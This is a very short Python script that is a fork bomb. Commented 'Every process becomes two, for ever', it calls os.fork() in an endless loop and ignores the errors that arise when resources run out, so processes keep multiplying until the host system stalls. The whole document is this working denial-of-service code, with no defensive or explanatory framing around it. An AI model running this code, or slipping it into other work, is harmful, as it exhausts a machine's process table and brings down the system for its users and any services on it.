# Every process becomes two, for ever.
# ends: processes
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
